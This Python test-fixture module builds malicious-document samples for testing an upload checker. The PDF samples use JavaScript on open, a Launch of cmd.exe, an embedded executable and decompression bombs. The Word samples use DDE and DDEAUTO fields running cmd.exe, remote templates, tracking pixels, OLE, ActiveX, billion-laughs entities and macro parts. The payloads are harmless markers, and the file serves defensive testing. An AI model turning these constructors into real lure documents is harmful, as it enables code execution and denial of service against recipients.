"""Hostile and ordinary papers, made here for the tests (never downloaded)."""

import io
import warnings
import zipfile
import zlib

import docx
import pikepdf
from docx.shared import Inches
from PIL import Image

MB = 1024 * 1024

# ---------------------------------------------------------------- PDF


def raw_pdf(objects: list[bytes], trailer: bytes = b"/Root 1 0 R", *, xref: bool = True) -> bytes:
    """A PDF from numbered object bodies (object 1 is the catalogue), with a plain xref table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    start = out.tell()
    if xref:
        out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
        for offset in offsets:
            out.write(b"%010d 00000 n \n" % offset)
        out.write(b"trailer\n<< /Size %d " % (len(objects) + 1) + trailer + b" >>\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % start)
    return out.getvalue()


def _stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(content), extra) + content + b"\nendstream"


TEXT = b"BT /F1 18 Tf 72 720 Td (Report for adoption panel) Tj ET"


def _pdf(catalogue: bytes = b"", page: bytes = b"", extra: list[bytes] | None = None) -> bytes:
    """Catalogue 1, pages 2, page 3, contents 4, font 5, then extra objects from 6."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> " + page + b" >>",
            _stream(TEXT),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *(extra or []),
        ]
    )


def text_pdf() -> bytes:
    return _pdf()


def scanned_pdf() -> bytes:
    picture = Image.new("RGB", (200, 100), "white")
    for x in range(20, 180):
        picture.putpixel((x, 50), (0, 0, 0))
    pixels = zlib.compress(picture.tobytes())
    draw = b"q 400 0 0 200 100 400 cm /Im1 Do Q"
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /XObject << /Im1 5 0 R >> >> >>",
            _stream(draw),
            _stream(
                pixels,
                b"/Type /XObject /Subtype /Image /Width 200 /Height 100 /ColorSpace /DeviceRGB "
                b"/BitsPerComponent 8 /Filter /FlateDecode",
            ),
        ]
    )


def pdf_document_javascript() -> bytes:
    return _pdf(
        b"/OpenAction 6 0 R /Names << /JavaScript << /Names [(run) 6 0 R] >> >>",
        extra=[b"<< /Type /Action /S /JavaScript /JS (app.alert('pwned')) >>"],
    )


def pdf_page_javascript() -> bytes:
    return _pdf(page=b"/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>")


def pdf_launch() -> bytes:
    return _pdf(
        page=b"/Annots [6 0 R]",
        extra=[
            b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] "
            b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>"
        ],
    )


def pdf_embedded_executable() -> bytes:
    program = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode."
    return _pdf(
        b"/Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >>",
        page=b"/Annots [8 0 R]",
        extra=[
            b"<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>",
            _stream(program, b"/Type /EmbeddedFile"),
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 92 620] /FS 6 0 R >>",
        ],
    )


def pdf_xfa_form() -> bytes:
    xfa = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'
    return _pdf(
        b"/AcroForm << /Fields [7 0 R] /XFA 6 0 R >>",
        page=b"/Annots [7 0 R]",
        extra=[
            _stream(xfa),
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 500 300 520] "
            b"/AA << /K << /S /JavaScript /JS (submit()) >> >> "
            b"/A << /S /SubmitForm /F (http://example.invalid/) >> >>",
        ],
    )


def pdf_decompression_bomb(expands_to: int = 1100 * MB) -> bytes:
    """A page whose content stream inflates to expands_to bytes of zeros (about 1 MB on disk)."""
    squeezer = zlib.compressobj(9)
    zeros = b"\0" * (16 * MB)
    parts = [squeezer.compress(zeros) for _ in range(expands_to // len(zeros))]
    parts.append(squeezer.flush())
    return _pdf(
        page=b"/Annots []",
        extra=[_stream(b"".join(parts), b"/Filter /FlateDecode")],
    ).replace(b"/Contents 4 0 R", b"/Contents 6 0 R")


def pdf_object_stream_loop() -> bytes:
    """Object 4 (the page's contents) is said to live in object stream 6, which lives in itself."""
    head = b"%PDF-1.7\n"
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
    ]
    out = io.BytesIO()
    out.write(head)
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref_at = out.tell()
    rows = [(0, 0, 0xFFFF)] + [(1, o, 0) for o in offsets] + [(2, 6, 0), (1, 0, 0), (2, 6, 1)]
    table = b"".join(bytes([t]) + f.to_bytes(4, "big") + g.to_bytes(2, "big") for t, f, g in rows)
    out.write(
        b"5 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref_at)
    return out.getvalue()


def pdf_encrypted() -> bytes:
    with pikepdf.open(io.BytesIO(text_pdf())) as pdf:
        out = io.BytesIO()
        pdf.save(out, encryption=pikepdf.Encryption(user="secret", owner="owner"))
    return out.getvalue()


# ---------------------------------------------------------------- Word

W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _base_docx() -> bytes:
    document = docx.Document()
    document.add_paragraph("Report for adoption panel")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def patched_docx(
    body: str = "",
    rels: str = "",
    parts: dict[str, bytes] | None = None,
    types: str = "",
    replace: dict[str, tuple[str, str]] | None = None,
) -> bytes:
    """The base document with body XML added, relationships of document.xml added, parts added,
    content types added, and (part: (old, new)) text replaced."""
    source = zipfile.ZipFile(io.BytesIO(_base_docx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            text = source.read(info)
            if info.filename == "word/document.xml":
                text = text.replace(b"<w:sectPr", body.encode() + b"<w:sectPr", 1)
            if info.filename == "word/_rels/document.xml.rels":
                text = text.replace(b"</Relationships>", rels.encode() + b"</Relationships>")
            if info.filename == "[Content_Types].xml":
                text = text.replace(b"</Types>", types.encode() + b"</Types>")
            for name, (old, new) in (replace or {}).items():
                if info.filename == name:
                    text = text.replace(old.encode(), new.encode(), 1)
            target.writestr(info.filename, text)
        for name, content in (parts or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def docx_dde() -> bytes:
    return patched_docx(
        '<w:p><w:fldSimple w:instr=\' DDE "c:\\\\windows\\\\system32\\\\cmd.exe" "/c calc" \'>'
        "<w:r><w:t>Simple result</w:t></w:r></w:fldSimple></w:p>"
    )


def docx_ddeauto() -> bytes:
    return patched_docx(
        '<w:p><w:r><w:t xml:space="preserve">Before </w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        '"/k calc.exe" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        "<w:r><w:t>Shown result</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def docx_remote_template() -> bytes:
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdT" Type="{REL}/attachedTemplate" '
        'Target="http://template.example.invalid/t.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    return patched_docx(
        parts={"word/_rels/settings.xml.rels": rels.encode()},
        replace={
            "word/settings.xml": (
                "<w:defaultTabStop",
                f'<w:attachedTemplate {R_NS} r:id="rIdT"/><w:defaultTabStop',
            )
        },
    )


def docx_external_image() -> bytes:
    drawing = (
        f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
        'drawingml/2006/wordprocessingDrawing"><wp:extent cx="914400" cy="914400"/>'
        '<wp:docPr id="9" name="tracker"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/'
        'drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/'
        '2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/'
        'picture"><pic:nvPicPr><pic:cNvPr id="9" name="tracker.png"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip {R_NS} r:link="rIdImg"/></pic:blipFill><pic:spPr/></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
        f'<w:p><w:hyperlink {R_NS} r:id="rIdLink"><w:r><w:t>the guidance</w:t></w:r>'
        "</w:hyperlink></w:p>"
    )
    rels = (
        f'<Relationship Id="rIdImg" Type="{REL}/image" '
        'Target="http://tracker.example.invalid/pixel.png" TargetMode="External"/>'
        f'<Relationship Id="rIdLink" Type="{REL}/hyperlink" '
        'Target="https://www.gov.uk/" TargetMode="External"/>'
    )
    return patched_docx(drawing, rels)


def docx_ole_object() -> bytes:
    body = (
        '<w:p><w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office" '
        'xmlns:v="urn:schemas-microsoft-com:vml">'
        '<v:shape id="ole1" style="width:90pt;height:60pt"/>'
        f'<o:OLEObject {R_NS} Type="Embed" ProgID="Package" ShapeID="ole1" r:id="rIdOle"/>'
        "</w:object></w:r></w:p>"
    )
    rels = f'<Relationship Id="rIdOle" Type="{REL}/oleObject" Target="embeddings/oleObject1.bin"/>'
    types = (
        '<Default Extension="bin" '
        'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    )
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"payload.exe"
    return patched_docx(body, rels, {"word/embeddings/oleObject1.bin": ole}, types)


def docx_activex(folder: str = "ctrl") -> bytes:
    """An ActiveX button; in word/activeX/ it is refused by check_upload, elsewhere cleaned."""
    body = (
        "<w:p><w:r><w:object><w:control "
        f'{R_NS} r:id="rIdAx" w:name="CommandButton1"/></w:object></w:r></w:p>'
    )
    rels = f'<Relationship Id="rIdAx" Type="{REL}/control" Target="{folder}/control1.xml"/>'
    control = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>'
        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        b'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        b'r:id="rId1"/>'
    )
    control_rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" '
        b'Type="http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary" '
        b'Target="control1.bin"/></Relationships>'
    )
    types = (
        '<Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/>'
        f'<Override PartName="/word/{folder}/control1.xml" '
        'ContentType="application/vnd.ms-office.activeX+xml"/>'
    )
    return patched_docx(
        body,
        rels,
        {
            f"word/{folder}/control1.xml": control,
            f"word/{folder}/_rels/control1.xml.rels": control_rels,
            f"word/{folder}/control1.bin": b"\x00ActiveX binary",
        },
        types,
    )


def docx_dtd_entity() -> bytes:
    return patched_docx(
        "<w:p><w:r><w:t>&greeting;</w:t></w:r></w:p>",
        replace={
            "word/document.xml": (
                "<w:document",
                '<!DOCTYPE w:document [<!ENTITY greeting "Hello">]><w:document',
            )
        },
    )


def docx_billion_laughs() -> bytes:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
        for n in range(1, 10)
    )
    return patched_docx(
        "<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>",
        replace={"word/document.xml": ("<w:document", f"<!DOCTYPE lolz [{entities}]><w:document")},
    )


def docx_macro_part() -> bytes:
    return patched_docx(
        rels='<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
        'relationships/vbaProject" Target="vbaProject.bin"/>',
        parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macros"},
    )


def docx_zip_bomb() -> bytes:
    return patched_docx(parts={"word/media/filler.bin": b"\0" * (64 * MB)})


def ordinary_docx() -> bytes:
    """A Word document with a table, a picture and a tracked change, as advisers upload."""
    document = docx.Document()
    document.add_heading("Child permanence report", level=1)
    document.add_paragraph("The child has lived with her foster carers since March.")
    table = document.add_table(rows=2, cols=2)
    for row, (left, right) in enumerate((("Name", "A.B."), ("Age", "4"))):
        table.cell(row, 0).text = left
        table.cell(row, 1).text = right
    picture = io.BytesIO()
    Image.new("RGB", (60, 40), (30, 120, 200)).save(picture, format="PNG")
    picture.seek(0)
    document.add_picture(picture, width=Inches(1))
    document.add_paragraph("Contact with her brother is weekly.")
    out = io.BytesIO()
    document.save(out)
    tracked = (
        '<w:p><w:ins w:id="101" w:author="Adviser" w:date="2027-01-04T10:00:00Z">'
        "<w:r><w:t>An inserted sentence.</w:t></w:r></w:ins>"
        '<w:del w:id="102" w:author="Adviser" w:date="2027-01-04T10:00:00Z">'
        "<w:r><w:delText>A deleted sentence.</w:delText></w:r></w:del></w:p>"
    )
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            text = source.read(info)
            if info.filename == "word/document.xml":
                text = text.replace(b"<w:sectPr", tracked.encode() + b"<w:sectPr", 1)
            target.writestr(info.filename, text)
    return result.getvalue()


def forty_page_pdf() -> bytes:
    pages = 40
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b""]
    kids = []
    font = 3
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    for n in range(pages):
        page_number = len(objects) + 1
        kids.append(b"%d 0 R" % page_number)
        lines = b" ".join(
            b"(Paragraph %d of page %d, about the child's needs and the plan.) Tj T*" % (i, n + 1)
            for i in range(40)
        )
        content = zlib.compress(b"BT /F1 10 Tf 12 TL 50 760 Td " + lines + b" ET")
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R "
            b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (page_number + 1, font)
        )
        objects.append(_stream(content, b"/Filter /FlateDecode"))
    objects[1] = b"<< /Type /Pages /Kids [" + b" ".join(kids) + b"] /Count %d >>" % pages
    return raw_pdf(objects)


HOSTILE_PDFS = {
    "document JavaScript": pdf_document_javascript,
    "page JavaScript": pdf_page_javascript,
    "launch action": pdf_launch,
    "embedded executable": pdf_embedded_executable,
    "XFA form": pdf_xfa_form,
    "decompression bomb": pdf_decompression_bomb,
    "object stream loop": pdf_object_stream_loop,
    "encrypted": pdf_encrypted,
}
HOSTILE_DOCX = {
    "DDE": docx_dde,
    "DDEAUTO": docx_ddeauto,
    "remote template": docx_remote_template,
    "external image": docx_external_image,
    "OLE object": docx_ole_object,
    "ActiveX": docx_activex,
    "DTD entity": docx_dtd_entity,
    "billion laughs": docx_billion_laughs,
    "macro part": docx_macro_part,
    "zip bomb": docx_zip_bomb,
}


def pdf_scripts_everywhere() -> bytes:
    """Document-level JavaScript on opening and a page that runs a script when it is shown."""
    return _pdf(
        b"/OpenAction 6 0 R /Names << /JavaScript << /Names [(run) 6 0 R] >> >>",
        page=b"/AA << /O 6 0 R >>",
        extra=[b"<< /Type /Action /S /JavaScript /JS (app.alert('pwned')) >>"],
    )


def expanded(pdf_bytes: bytes) -> bytes:
    """The PDF with every stream and object stream written out, so names can be searched."""
    with pikepdf.open(io.BytesIO(pdf_bytes)) as pdf, warnings.catch_warnings():
        warnings.simplefilter("ignore", pikepdf.PageCopyWarning)
        out = io.BytesIO()
        pdf.save(
            out,
            qdf=True,
            compress_streams=False,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
        )
    return out.getvalue()
